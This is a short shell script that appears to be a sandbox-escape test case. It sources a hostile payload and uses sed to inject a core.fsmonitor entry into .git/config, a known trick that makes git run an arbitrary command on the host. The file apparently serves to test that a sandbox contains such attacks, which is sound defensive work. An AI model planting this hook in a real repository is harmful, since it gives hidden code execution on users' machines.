#!/bin/sh
# Renames another configuration over the old one.
# Matters: as config_by_git, without git.
# Held by: a directory of the sandbox's own at .git, into which only what is harmless is bound.
# judge: host
# harm: guarded owned
. "$HOSTILE_STAGE/workspace/attack/hostile.sh"
sed "s|^\[core\]|[core]\n\tfsmonitor = \"$payload; false\"|" .git/config >config.new
mv -f config.new .git/config
